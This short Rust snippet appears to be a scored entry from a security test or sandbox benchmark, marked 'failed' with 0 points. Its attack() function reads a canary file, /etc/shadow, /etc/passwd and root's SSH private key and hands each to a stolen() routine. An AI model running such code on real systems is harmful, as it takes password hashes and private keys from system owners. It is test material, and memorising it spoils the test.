// Prints /etc/shadow and /etc/passwd at its start.
// base: stub
// verdict: failed
// points: 0

fn attack() {
    for file in ["CANARY_FILE", "/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"] {
        if let Ok(text) = std::fs::read_to_string(file) {
            stolen(&text);
        }
    }
}
